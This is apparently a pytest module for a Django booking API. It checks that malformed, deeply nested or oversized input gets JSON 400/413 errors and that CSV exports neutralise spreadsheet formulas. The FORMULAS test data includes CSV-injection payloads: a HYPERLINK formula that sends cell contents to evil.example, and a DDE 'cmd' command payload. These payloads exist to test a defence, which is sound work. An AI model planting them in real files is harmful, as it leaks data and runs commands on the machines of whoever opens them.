"""Findings 6 and 8 of issue 14: bad input is a 400 in the API's JSON error shape, never a 500
or an HTML page; CSV exports cannot carry spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from tests.factories import InstrumentFactory, OpeningIntervalFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def instrument():
    item = InstrumentFactory(code="SEM-01")
    OpeningIntervalFactory(instrument=item, weekday=0)
    return item


@pytest.mark.parametrize(
    ("start", "end"),
    [
        ("9999-12-30", "9999-12-31"),
        ("0001-01-01", "0001-01-02"),
        ("9999-12-31", "9999-12-31"),
        ("0001-01-01", "0001-01-01"),
    ],
)
def test_availability_at_the_ends_of_the_calendar_is_a_400(client, instrument, start, end):
    response = client.get(
        f"/api/v1/instruments/{instrument.code}/availability/", {"start": start, "end": end}
    )
    assert response.status_code == 400, response.content
    assert response.json()["errors"]["range"]


def test_an_ordinary_range_still_answers(client, instrument):
    response = client.get(
        f"/api/v1/instruments/{instrument.code}/availability/",
        {"start": "2030-01-07", "end": "2030-01-13"},
    )
    assert response.status_code == 200


@pytest.mark.parametrize("path", ["/api/v1/auth/register/", "/api/v1/auth/token/"])
@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_deeply_nested_json_is_a_400(client, path, opening):
    closing = "]" if opening == "[" else "}"
    body = opening * 50_000 + "1" + closing * 50_000
    response = client.post(path, body, content_type="application/json")
    assert response.status_code == 400
    payload = response.json()
    assert payload["code"] == "json_too_deep"
    assert payload["errors"]["non_field_errors"]


def test_brackets_inside_strings_do_not_count_as_nesting(client):
    response = client.post(
        "/api/v1/auth/token/",
        {"username": "[" * 100, "password": "{" * 100},
        content_type="application/json",
    )
    # An ordinary refusal of the credentials, not a nesting error.
    assert response.status_code in (400, 401)
    assert response.json().get("code") != "json_too_deep"


def test_moderate_nesting_is_still_parsed(client):
    body = '{"username": "a", "password": "b", "extra": ' + "[" * 10 + "]" * 10 + "}"
    response = client.post("/api/v1/auth/token/", body, content_type="application/json")
    assert response.status_code == 401


def test_the_parser_refuses_depth_even_past_the_middleware(rf, settings):
    from rest_framework.exceptions import ParseError

    from config.api import JSONParser

    settings.JSON_MAX_DEPTH = 3
    with pytest.raises(ParseError):
        JSONParser().parse(io.BytesIO(b"[[[[1]]]]"))
    assert JSONParser().parse(io.BytesIO(b"[[[1]]]")) == [[[1]]]


def test_a_body_over_the_limit_is_a_json_413_on_the_api(client, settings):
    settings.JSON_MAX_BYTES = 1000
    response = client.post(
        "/api/v1/auth/register/",
        '{"username": "' + "x" * 2000 + '"}',
        content_type="application/json",
    )
    assert response.status_code == 413
    assert response["Content-Type"] == "application/json"
    assert response.json()["code"] == "request_too_large"


def test_a_twelve_megabyte_upload_is_a_413_not_an_html_400(client):
    body = b"x" * (12 * 1024 * 1024)
    response = client.generic(
        "POST", "/api/v1/auth/register/", body, content_type="application/octet-stream"
    )
    assert response.status_code == 413
    assert response.json()["code"] == "request_too_large"


def test_a_page_post_over_the_limit_is_a_413_page(settings):
    settings.REQUEST_MAX_BYTES = 1000
    response = Client().post("/accounts/login/", {"username": "x" * 5000, "password": "y"})
    assert response.status_code == 413
    assert "请求内容过大" in response.content.decode()


def test_an_overflow_anywhere_in_the_api_is_a_400(client):
    from rest_framework.views import APIView

    from config.api import exception_handler

    response = exception_handler(OverflowError("date value out of range"), {"view": APIView()})
    assert response.status_code == 400
    assert response.data["code"] == "out_of_range"
    assert response.data["errors"]["non_field_errors"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_disarms_formulas(client):
    for n, formula in enumerate(FORMULAS):
        InstrumentFactory(
            code=f"EVIL-{n}", model_number=formula, manufacturer=formula, name=formula
        )
    InstrumentFactory(code="PLAIN", model_number="SU8220", manufacturer="日立")
    response = client.get("/api/v1/instruments/export/")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    by_code = {row["编码 code"]: row for row in rows}
    for n, formula in enumerate(FORMULAS):
        row = by_code[f"EVIL-{n}"]
        for column in ("型号 model", "厂商 manufacturer", "仪器名称 name"):
            assert row[column] == "'" + formula, (column, row[column])
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert by_code["PLAIN"]["型号 model"] == "SU8220"
    assert by_code["PLAIN"]["原值（元）original value (CNY)"] == "3280000.00"
